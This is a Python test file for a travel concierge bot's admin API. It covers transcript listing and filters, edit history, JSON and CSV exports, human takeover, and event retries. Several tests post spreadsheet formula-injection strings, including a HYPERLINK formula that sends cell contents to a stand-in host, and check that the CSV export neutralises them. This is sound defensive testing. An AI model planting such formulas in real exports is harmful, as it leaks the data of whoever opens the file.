"""The admin API of SPEC §7, black-box over HTTP on both databases: transcripts with their filters, each
concierge message's origin, edit history, deleted authors, exports, takeover and handback, a human reply,
and platform events with retry."""

from __future__ import annotations

import csv
import datetime as dt
import io
import json
import re
from typing import Any

import pytest
from sqlalchemy import update

from concierge import review as admin
from concierge.api.admin import _csv
from messaging.store.db import get_session
from messaging.store.models import Message
from tasks.concierge_tasks import answer_question, process_event
from tests.api.test_event_notifications import TRIP, event


def _booked(app: Any, client: Any, auth: Any, event_id: str = "ev-booked", trip_id: int = TRIP["id"]) -> None:
    """A trip.booked event, processed: one concierge message to the traveler and one to the host (a booking is
    told once: another event needs another ``trip_id``)."""
    assert client.post("/v1/events", json=event("trip.booked", "trip", {**TRIP, "id": trip_id}, event_id),
                       headers=auth("platform", "service")).status_code == 202
    with app.app_context():
        assert process_event.run(event_id) == "processed"


def _ask(app: Any, client: Any, user: dict[str, str], text: str) -> dict[str, Any]:
    conversation = client.get("/v1/concierge", headers=user).json["id"]
    posted = client.post(f"/v1/conversations/{conversation}/messages", json={"message": text}, headers=user)
    assert posted.status_code == 201, posted.json
    with app.app_context():
        answer_question.run(posted.json["id"])
    return dict(posted.json)


@pytest.fixture
def seeded(app: Any, client: Any, auth: Any) -> dict[str, Any]:
    """Tomás (trav-1) got a booking message and asked a question; Helena (host-1) got hers."""
    _booked(app, client, auth)
    tomas = auth("trav-1", "guest")
    question = _ask(app, client, tomas, "hello there!")
    return {"tomas": tomas, "question": question, "conversation": question["conversationId"]}


def _list(client: Any, auth: Any, query: str = "") -> Any:
    response = client.get(f"/v1/admin/transcripts{query}", headers=auth("root", "admin"))
    assert response.status_code == 200, response.json
    return response.json


@pytest.mark.parametrize("role", ["guest", "host", "service"])
def test_only_admins_get_in(client: Any, auth: Any, role: str) -> None:
    calls = [("get", "/v1/admin/transcripts"), ("get", "/v1/admin/transcripts/x"),
             ("get", "/v1/admin/transcripts/x/export"), ("post", "/v1/admin/transcripts/x/takeover"),
             ("post", "/v1/admin/transcripts/x/handback"), ("post", "/v1/admin/transcripts/x/messages"),
             ("get", "/v1/admin/events"), ("post", "/v1/admin/events/x/retry")]
    for method, path in calls:
        denied = getattr(client, method)(path, headers=auth("someone", role), json={"message": "hi"})
        assert denied.status_code == 403, (method, path)
        assert denied.content_type == "application/problem+json"
        assert getattr(client, method)(path).status_code == 401


def test_the_list_shows_each_thread_with_its_people_counts_and_last_message(
    seeded: dict[str, Any], client: Any, auth: Any
) -> None:
    items = _list(client, auth)["items"]
    by_user = {i["users"][0]["userId"]: i for i in items}
    assert set(by_user) == {"trav-1", "host-1"}
    tomas = by_user["trav-1"]
    assert tomas["conversationId"] == seeded["conversation"] and tomas["kind"] == "concierge"
    # the booking message, the question and the answer
    assert tomas["messageCount"] == 3 and tomas["conciergeMessageCount"] == 2
    assert tomas["lastMessage"]["senderType"] == "concierge" and tomas["needsHuman"] is False
    assert [i["conversationId"] for i in items][0] == seeded["conversation"]  # latest activity first


def test_filters_narrow_the_list(seeded: dict[str, Any], app: Any, client: Any, auth: Any) -> None:
    mine = seeded["conversation"]
    assert [i["conversationId"] for i in _list(client, auth, "?userId=trav-1")["items"]] == [mine]
    assert _list(client, auth, "?userId=nobody")["items"] == []
    assert len(_list(client, auth, "?eventType=trip.booked")["items"]) == 2
    assert _list(client, auth, "?eventType=offer.created")["items"] == []
    assert [i["conversationId"] for i in _list(client, auth, "?q=HELLO%20there")["items"]] == [mine]
    assert _list(client, auth, "?q=100%25")["items"] == []  # % is a literal, not a wildcard
    assert _list(client, auth, "?needsHuman=true")["items"] == []
    assert len(_list(client, auth, "?needsHuman=false")["items"]) == 2
    assert len(_list(client, auth, "?from=2000-01-01T00:00:00Z&to=2999-01-01T00:00:00Z")["items"]) == 2
    assert _list(client, auth, "?to=2000-01-01T00:00:00Z")["items"] == []
    naive = client.get("/v1/admin/transcripts?from=2026-01-01T00:00:00", headers=auth("root", "admin"))
    assert naive.status_code == 422 and naive.content_type == "application/problem+json"
    for bad in ("?limit=0", "?limit=abc", "?needsHuman=maybe", "?before=%25%25", "?q=" + "x" * 201):
        response = client.get(f"/v1/admin/transcripts{bad}", headers=auth("root", "admin"))
        assert response.status_code in (400, 422), bad
        assert response.content_type == "application/problem+json"


def test_the_list_pages_by_keyset(seeded: dict[str, Any], client: Any, auth: Any) -> None:
    first = _list(client, auth, "?limit=1")
    assert len(first["items"]) == 1 and first["nextCursor"]
    second = _list(client, auth, f"?limit=1&before={first['nextCursor']}")
    assert len(second["items"]) == 1 and second["nextCursor"] is None
    assert first["items"][0]["conversationId"] != second["items"][0]["conversationId"]


def test_a_transcript_shows_origins_edits_and_deleted_authors(
    seeded: dict[str, Any], app: Any, client: Any, auth: Any
) -> None:
    conversation, tomas, question = seeded["conversation"], seeded["tomas"], seeded["question"]
    assert client.patch(f"/v1/messages/{question['id']}", json={"message": "hello again"},
                        headers=tomas).status_code == 200
    # A second admin replies as staff (taking the conversation over), then is deleted by the platform: the reply
    # stays, author "deleted" like any deleted user's.
    assert client.post(f"/v1/admin/transcripts/{conversation}/messages", json={"message": "Agent here"},
                       headers=auth("agent-7", "admin")).status_code == 201
    assert client.delete("/v1/users/agent-7", headers=auth("platform", "service")).status_code == 204

    body = client.get(f"/v1/admin/transcripts/{conversation}", headers=auth("root", "admin")).json
    assert body["conversation"]["id"] == conversation and body["needsHuman"] is True
    booked, asked, answer, reply = body["messages"]
    assert booked["senderType"] == "concierge" and booked["userId"] is None
    assert booked["origin"]["kind"] == "event" and booked["origin"]["eventId"] == "ev-booked"
    assert booked["origin"]["eventType"] == "trip.booked"
    assert booked["origin"]["payload"]["data"]["trip"]["id"] == TRIP["id"]
    assert asked["message"] == "hello again" and "origin" not in asked
    assert [e["message"] for e in asked["edits"]] == ["hello there!"] and asked["edits"][0]["editedAt"]
    assert answer["origin"] == {"kind": "reply", "questionMessageId": question["id"], "intent": "greeting"}
    assert reply["senderType"] == "deleted" and reply["userId"] is None and reply["message"] == "Agent here"
    assert "origin" not in reply

    for missing, status in (("nope", 404), ("x" * 21 + "y", 404), ("x" * 300, 422)):
        response = client.get(f"/v1/admin/transcripts/{missing}", headers=auth("root", "admin"))
        assert response.status_code == status and response.content_type == "application/problem+json"
    # An ordinary conversation is not a transcript.
    plain = client.post("/v1/conversations", json={"participantIds": ["trav-1"]}, headers=auth("bob", "guest"))
    assert client.get(f"/v1/admin/transcripts/{plain.json['id']}", headers=auth("root", "admin")).status_code == 404


def test_exports_stream_the_same_transcript_as_json_and_csv(
    seeded: dict[str, Any], client: Any, auth: Any, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(admin, "EXPORT_BATCH", 1)  # one query per message: several batches for a short thread
    conversation, admin_headers = seeded["conversation"], auth("root", "admin")
    shown = client.get(f"/v1/admin/transcripts/{conversation}", headers=admin_headers).json["messages"]

    as_json = client.get(f"/v1/admin/transcripts/{conversation}/export?format=json", headers=admin_headers)
    assert as_json.status_code == 200 and as_json.is_streamed
    assert as_json.headers["Content-Disposition"] == f'attachment; filename="transcript-{conversation}.json"'
    assert json.loads(as_json.data)["messages"] == shown

    as_csv = client.get(f"/v1/admin/transcripts/{conversation}/export?format=csv", headers=admin_headers)
    assert as_csv.status_code == 200 and as_csv.content_type.startswith("text/csv")
    rows = list(csv.DictReader(io.StringIO(as_csv.data.decode())))
    assert [r["id"] for r in rows] == [m["id"] for m in shown]
    assert [r["originKind"] for r in rows] == ["event", "", "reply"]
    assert rows[0]["eventType"] == "trip.booked" and rows[2]["intent"] == "greeting"

    assert client.get(f"/v1/admin/transcripts/{conversation}/export?format=xml",
                      headers=admin_headers).status_code == 422
    missing = client.get("/v1/admin/transcripts/nope/export", headers=admin_headers)
    assert missing.status_code == 404 and missing.content_type == "application/problem+json"


HYPERLINK = '=HYPERLINK("http://evil.invalid/?"&A1,"x")'
FORMULAS = [HYPERLINK, "+1+2", "-2+3", "@SUM(1+1)", "\t=1+1", "\r=1+1"]
FORMULA_AUTHOR = "@admin"  # a token's sub is any text: the userId cell is a cell like the others


def formula_transcript(app: Any, client: Any, auth: Any) -> str:
    """A transcript whose messages each start with a character a spreadsheet reads as a formula, written by an
    admin whose user id starts with one too. Text is trimmed when posted, so the tab and carriage return are
    written into the stored messages afterwards."""
    _booked(app, client, auth)
    conversation = client.get("/v1/concierge", headers=auth("trav-1", "guest")).json["id"]
    for text in FORMULAS:
        posted = client.post(f"/v1/admin/transcripts/{conversation}/messages", json={"message": text},
                             headers=auth(FORMULA_AUTHOR, "admin"))
        assert posted.status_code == 201, posted.json
        if posted.json["message"] != text:  # the trimmed ones
            with app.app_context():
                session = get_session()
                session.execute(update(Message).where(Message.id == posted.json["id"]).values(message=text))
                session.commit()
    return str(conversation)


def assert_csv_neutralised(raw: str, exact: list[dict[str, Any]]) -> None:
    """Every formula cell of the CSV export ``raw`` starts with a single quote; the ids and times are as in the
    JSON export ``exact``."""
    assert '"\'=HYPERLINK(""http://evil.invalid/?""&A1,""x"")"' in raw  # prefixed, and quoted as csv does
    rows = list(csv.DictReader(io.StringIO(raw, newline="")))
    assert [r["id"] for r in rows] == [m["id"] for m in exact]
    assert [r["createdAt"] for r in rows] == [m["createdAt"] for m in exact]  # spelt alike: UTC with Z
    replies = [r for r in rows if r["userId"] == "'" + FORMULA_AUTHOR]
    assert [r["message"] for r in replies] == ["'" + text for text in FORMULAS]
    for row in rows:
        for column in ("userId", "message", "eventId", "eventType", "intent"):
            assert not row[column].startswith(("=", "+", "-", "@", "\t", "\r")), row


def test_csv_cells_from_outside_are_neutralised_and_the_services_own_ids_kept() -> None:
    """Decided per column: a message id starting with "-" (1 in 64 nanoids) is kept, a user id or text is not."""
    message = {"id": "-a1b2c3d4e5f6g7h8i9j0", "createdAt": dt.datetime(2026, 12, 1, 9, 30, tzinfo=dt.UTC),
               "senderType": "concierge", "userId": "-user", "message": "-1",
               "origin": {"kind": "event", "eventId": "+ev", "eventType": "@type", "questionMessageId": None,
                          "intent": "=intent"}, "edits": []}
    row = next(csv.DictReader(io.StringIO("".join(_csv([message], iter([]))), newline="")))
    assert row == {"id": "-a1b2c3d4e5f6g7h8i9j0", "createdAt": "2026-12-01T09:30:00Z",
                   "senderType": "concierge", "userId": "'-user", "message": "'-1", "originKind": "event",
                   "eventId": "'+ev", "eventType": "'@type", "questionMessageId": "", "intent": "'=intent",
                   "edits": "0"}


def test_csv_exports_neutralise_formulas_and_json_keeps_the_text(app: Any, client: Any, auth: Any) -> None:
    conversation, root = formula_transcript(app, client, auth), auth("root", "admin")
    as_json = client.get(f"/v1/admin/transcripts/{conversation}/export?format=json", headers=root)
    exact = json.loads(as_json.data)["messages"]
    assert [m["message"] for m in exact if m["userId"] == FORMULA_AUTHOR] == FORMULAS
    as_csv = client.get(f"/v1/admin/transcripts/{conversation}/export?format=csv", headers=root)
    assert as_csv.status_code == 200
    assert_csv_neutralised(as_csv.data.decode(), exact)


def test_takeover_silences_the_bot_and_handback_restores_it(
    seeded: dict[str, Any], app: Any, client: Any, auth: Any
) -> None:
    conversation, tomas, root = seeded["conversation"], seeded["tomas"], auth("root", "admin")
    taken = client.post(f"/v1/admin/transcripts/{conversation}/takeover", headers=root)
    assert taken.status_code == 200 and taken.json == {"conversationId": conversation, "needsHuman": True}
    assert [i["conversationId"] for i in _list(client, auth, "?needsHuman=true")["items"]] == [conversation]

    _ask(app, client, tomas, "when is check in?")
    messages = client.get(f"/v1/admin/transcripts/{conversation}", headers=root).json["messages"]
    assert messages[-1]["senderType"] == "user"  # the bot stayed quiet

    reply = client.post(f"/v1/admin/transcripts/{conversation}/messages", json={"message": "  On it!  "},
                        headers={**root, "Idempotency-Key": "reply-1"})
    again = client.post(f"/v1/admin/transcripts/{conversation}/messages", json={"message": "  On it!  "},
                        headers={**root, "Idempotency-Key": "reply-1"})
    assert reply.status_code == 201 and again.status_code == 201 and again.json["id"] == reply.json["id"]
    assert reply.json["userId"] == "root" and reply.json["senderType"] == "staff" and reply.json["message"] == "On it!"
    seen = client.get(f"/v1/conversations/{conversation}/messages", headers=tomas).json["items"]
    assert [m["message"] for m in seen].count("On it!") == 1  # the traveler sees it, once

    back = client.post(f"/v1/admin/transcripts/{conversation}/handback", headers=root)
    assert back.status_code == 200 and back.json == {"conversationId": conversation, "needsHuman": False}
    _ask(app, client, tomas, "thank you so much!")
    messages = client.get(f"/v1/admin/transcripts/{conversation}", headers=root).json["messages"]
    assert messages[-1]["senderType"] == "concierge" and messages[-1]["origin"]["intent"] == "thanks"

    for bad in ({"message": "   "}, {"message": "x" * 1501}, {"message": 5}, {}, []):
        response = client.post(f"/v1/admin/transcripts/{conversation}/messages", json=bad, headers=root)
        assert response.status_code in (400, 422) and response.content_type == "application/problem+json"
    assert client.post("/v1/admin/transcripts/nope/takeover", headers=root).status_code == 404
    assert client.post("/v1/admin/transcripts/nope/messages", json={"message": "hi"}, headers=root).status_code == 404


def test_events_by_status_with_their_error_and_retry_of_a_failed_one(
    app: Any, client: Any, auth: Any
) -> None:
    root, service = auth("root", "admin"), auth("platform", "service")
    _booked(app, client, auth)
    backwards = event("trip.booked", "trip", {**TRIP, "id": 99, "checkIn": "2026-12-23", "checkOut": "2026-12-20"},
                      "ev-back")
    assert client.post("/v1/events", json=backwards, headers=service).status_code == 202
    with app.app_context():
        assert process_event.run("ev-back") == "failed"

    everything = client.get("/v1/admin/events", headers=root).json["items"]
    assert {e["id"]: e["status"] for e in everything} == {"ev-booked": "processed", "ev-back": "failed"}
    [failed] = client.get("/v1/admin/events?status=failed", headers=root).json["items"]
    assert failed["id"] == "ev-back" and "checkOut" in failed["lastError"] and failed["attempts"] == 1
    assert client.get("/v1/admin/events?type=trip.cancelled", headers=root).json["items"] == []
    page = client.get("/v1/admin/events?limit=1", headers=root).json
    rest = client.get(f"/v1/admin/events?limit=1&before={page['nextCursor']}", headers=root).json
    assert {page["items"][0]["id"], rest["items"][0]["id"]} == {"ev-booked", "ev-back"} and rest["nextCursor"] is None
    assert client.get("/v1/admin/events?status=bogus", headers=root).status_code == 422

    retried = client.post("/v1/admin/events/ev-back/retry", headers=root)
    assert retried.status_code == 200 and retried.json["status"] == "pending"
    again = client.post("/v1/admin/events/ev-back/retry", headers=root)
    assert again.status_code == 409 and again.content_type == "application/problem+json"
    assert client.post("/v1/admin/events/ev-booked/retry", headers=root).status_code == 409
    assert client.post("/v1/admin/events/nope/retry", headers=root).status_code == 404


def test_transcript_list_plans_use_indexes(pg_app: Any, pg_client: Any, auth: Any) -> None:
    """EXPLAIN the list's own statements, for each filter, over 20,000 conversations of which 500 are
    concierge threads (50 taken over): no sequential scan of messages, participants or stats.

    Sequential scans are priced out (``enable_seqscan = off``) so the plan shows whether an index *can*
    serve each statement: at 20,000 rows a hash join over a sequential scan of the stats is the planner's
    right choice for a user's 130 conversations, at millions it is not, and a scan it cannot avoid stays."""
    from sqlalchemy import text

    from messaging.store.db import get_engine
    from tests.api.test_inbox import BIG_TABLES, _bulk_other_conversations, capture_sql

    _bulk_other_conversations(pg_app, 20_000)
    with pg_app.app_context():
        with get_engine().begin() as conn:
            conn.execute(text(
                "INSERT INTO concierge_threads (conversation_id, user_id, needs_human) "
                "SELECT 'bulk' || lpad((n * 40)::text, 17, '0'), 'other' || n, n % 10 = 0 "
                "FROM generate_series(0, 499) n"))
            conn.execute(text(
                "INSERT INTO messages (id, conversation_id, user_id, message) "
                "VALUES ('rare', 'bulk' || lpad('4000', 17, '0'), 'other100', 'Is there a ferry to Zanzibar?')"))
        with get_engine().connect().execution_options(isolation_level="AUTOCOMMIT") as conn:
            conn.execute(text("ANALYZE"))
    root = auth("root", "admin")
    queries = ["", "?needsHuman=true", "?needsHuman=false", "?userId=other7", "?q=message%204",
               "?eventType=trip.booked", "?from=2026-01-01T00:00:00Z&to=2999-01-01T00:00:00Z"]
    with capture_sql(pg_app) as statements:
        rare = pg_client.get("/v1/admin/transcripts?q=zanzibar", headers=root)
    assert [i["conversationId"] for i in rare.json["items"]] == ["bulk" + "4000".zfill(17)]
    [search] = [(s, p) for s, p in statements if "ILIKE" in s.upper()]
    assert "ix_messages_message_trgm" in _index_plan(pg_app, *search)  # a rare word: found by its trigrams
    for query in queries:
        with capture_sql(pg_app) as statements:
            response = pg_client.get(f"/v1/admin/transcripts{query}", headers=root)
        assert response.status_code == 200, response.json
        if query in ("", "?needsHuman=false", "?q=message%204"):
            assert len(response.json["items"]) == 50, query
        selects = [(s, p) for s, p in statements if s.lstrip().upper().startswith("SELECT")]
        assert selects, query
        for statement, parameters in selects:
            plan = _index_plan(pg_app, statement, parameters)
            for table in BIG_TABLES:
                assert not re.search(rf"Seq Scan on {table}\b", plan), f"{query}\n{statement}\n{plan}"


def _index_plan(app: Any, statement: str, parameters: Any) -> str:
    from messaging.store.db import get_engine

    with app.app_context(), get_engine().connect() as conn:
        conn.exec_driver_sql("SET enable_seqscan = off")
        try:
            return "\n".join(r[0] for r in conn.exec_driver_sql("EXPLAIN " + statement, parameters).all())
        finally:
            conn.exec_driver_sql("RESET enable_seqscan")
